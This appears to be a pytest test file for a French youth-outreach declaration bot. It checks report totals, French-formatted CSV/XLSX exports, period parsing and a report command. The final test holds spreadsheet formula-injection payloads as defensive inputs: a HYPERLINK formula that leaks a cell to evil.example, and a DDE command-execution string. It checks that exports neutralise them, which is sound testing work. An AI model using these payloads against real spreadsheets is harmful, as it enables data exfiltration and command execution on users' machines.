"""Quarterly and annual reports: the figures are the sums of the declarations."""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import re
import zipfile
from pathlib import Path

import pytest
from sqlmodel import Session

from bot.cli import main
from bot.declarations.export import summary_text, table, to_csv, to_xlsx
from bot.declarations.report import Period, build_report, load_rows, parse_period
from bot.declarations.weeks import Quarter, Week
from bot.storage.database import make_engine, upgrade
from bot.storage.models import Declaration

TODAY = dt.date(2026, 11, 22)


def _declarations(count: int, seed: int = 3) -> list[Declaration]:
    rng = random.Random(seed)
    weeks = [w for w in Quarter(2026, 4).weeks() if w < Week.of(TODAY)]
    result = []
    for person in range(count):
        for week in rng.sample(weeks, rng.randint(1, len(weeks))):
            result.append(
                Declaration(
                    user_id=f"@p{person}:test",
                    week=str(week),
                    inactive=rng.random() < 0.1,
                    hours=rng.choice([0.5, 1.0, 2.5, 4.0]),
                    networks=rng.sample(["Instagram", "Snapchat", "Discord"], 2),
                    young_people=rng.randint(0, 20),
                    short_contacts=rng.randint(0, 9),
                    age_groups=["15-17 ans"],
                    interactions={"échanges simples": rng.randint(1, 5)},
                    topics=rng.sample(["Mal-être", "Alcool", "Fugue"], 1),
                    referrals={"3018": rng.randint(0, 2)} if rng.random() < 0.5 else {},
                )
            )
    return result


@pytest.fixture
def database(database_url: str) -> str:
    url = database_url
    upgrade(url)
    with Session(make_engine(url)) as session:
        session.add_all(_declarations(6))
        session.commit()
    return url


def test_report_figures_are_the_sums_of_the_declarations(database: str) -> None:
    with Session(make_engine(database)) as session:
        rows = load_rows(session, [str(w) for w in Period(2026, 4).weeks()])
    report = build_report(Period(2026, 4), rows, TODAY, ["@absent:test"])
    active = [r for r in rows if not r["inactive"]]

    assert report.network.weeks_declared == len(rows)
    assert report.network.hours == pytest.approx(sum(r["hours"] for r in active))
    assert report.network.young_people == sum(r["young_people"] for r in active)
    assert report.network.referrals["3018"] == sum(r["referrals"].get("3018", 0) for r in active)
    camille = next(t for t in report.promeneurs if t.name == "@p0:test")
    assert camille.hours == pytest.approx(
        sum(r["hours"] for r in active if r["user_id"] == "@p0:test")
    )
    absent = next(t for t in report.promeneurs if t.name == "@absent:test")
    assert (absent.weeks_declared, absent.weeks_expected) == (0, len(report.expected))
    assert "Déclarations incomplètes" in summary_text(report)


def test_csv_has_one_row_per_promeneur_and_a_total(database: str) -> None:
    with Session(make_engine(database)) as session:
        rows = load_rows(session, [str(w) for w in Period(2026, 4).weeks()])
    report = build_report(Period(2026, 4), rows, TODAY)
    lines = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig")), delimiter=";"))

    assert [[_as_french_spreadsheet_reads(c) for c in line] for line in lines] == [
        [float(cell) if isinstance(cell, int | float) else cell for cell in row]
        for row in table(report)
    ]
    assert len(lines) == 1 + 6 + 1
    assert lines[-1][0] == "Réseau (total)"
    assert to_xlsx(report)[:2] == b"PK"  # a zip: the xlsx container


def _as_french_spreadsheet_reads(cell: str) -> object:
    """A CSV cell as LibreOffice or Excel with French settings reads it: `6,5` and `12` are
    numbers, `6.5` is text."""
    return float(cell.replace(",", ".")) if re.fullmatch(r"-?\d+(,\d+)?", cell) else cell


def test_spreadsheets_follow_french_conventions() -> None:
    first = {d.user_id: d for d in reversed(_declarations(2))}  # one week each
    declarations = list(first.values())
    for declaration in declarations:
        declaration.inactive, declaration.hours = False, 2.25
    declarations[0].topics, declarations[1].topics = ["Sexualité"], ["Écrans"]
    report = build_report(Period(2026, 4), [d.model_dump() for d in declarations], TODAY)

    lines = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig")), delimiter=";"))
    header, hours = lines[0], lines[0].index("Heures")
    assert [line[hours] for line in lines[1:]] == ["2,25", "2,25", "4,5"]  # not "2.25"
    assert all(isinstance(_as_french_spreadsheet_reads(line[hours]), float) for line in lines[1:])
    topics = [name for name in header if name.startswith("Sujet")]
    assert topics.index("Sujet : Écrans (semaines)") < topics.index("Sujet : Sexualité (semaines)")

    with zipfile.ZipFile(io.BytesIO(to_xlsx(report))) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    by_person = next(s for s in sheets if "Réseau" in s or "<autoFilter" in s)
    assert all('ySplit="1"' in s and 'state="frozen"' in s for s in sheets)  # header in view
    assert all("<cols>" in s for s in sheets)  # widths fitted to the content
    assert "<autoFilter" in by_person


@pytest.mark.parametrize(
    ("text", "period"),
    [("T4 2026", Period(2026, 4)), ("2026-Q1", Period(2026, 1)), ("2025", Period(2025))],
)
def test_periods_are_read_in_french_or_iso(text: str, period: Period) -> None:
    assert parse_period(text) == period


def test_year_has_every_week_of_its_quarters() -> None:
    assert len(Period(2026).weeks()) == 53
    assert len(Period(2025).weeks()) == 52


def test_report_command_line_writes_the_three_files(
    database: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "config.toml"
    config.write_text(
        f'[homeserver]\nurl = "http://127.0.0.1:1"\n[bot]\nuser_id = "@b:x"\npassword = "x"\n'
        f'[network]\ncoordinators = ["@c:x"]\n[storage]\ndatabase_url = "{database}"\n',
        encoding="utf-8",
    )
    out = tmp_path / "out"
    assert main(["report", "--quarter", "2026-Q4", "--out", str(out), "-c", str(config)]) == 0
    printed = capsys.readouterr().out

    assert printed.startswith("Bilan T4 2026 : 6 promeneur(s)")
    names = sorted(p.name for p in out.iterdir())
    assert names == ["bilan-pdn-2026-Q4.csv", "bilan-pdn-2026-Q4.png", "bilan-pdn-2026-Q4.xlsx"]
    assert (out / "bilan-pdn-2026-Q4.png").read_bytes()[:4] == b"\x89PNG"


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"clic")'


def test_text_people_typed_never_becomes_a_formula_in_an_export() -> None:
    declaration = _declarations(1)[0]
    declaration.topics = [HOSTILE]
    declaration.networks = ["+cmd|' /C calc'!A0"]
    declaration.remark = "-2+3"
    rows = [declaration.model_dump()]
    report = build_report(Period(2026, 4), rows, TODAY)

    cells = [c for line in csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig")),
                                      delimiter=";") for c in line]  # fmt: skip
    assert not [c for c in cells if c.startswith(("=", "+", "-"))]
    assert cells[0] == "Promeneur" and "@p0:test" in cells  # a Matrix ID is left as it is

    with zipfile.ZipFile(io.BytesIO(to_xlsx(report))) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
        shared = book.read("xl/sharedStrings.xml").decode()
    assert sheets and not [s for s in sheets if "<f>" in s]  # no cell holds a formula
    assert "HYPERLINK" in shared  # the text is there, as text
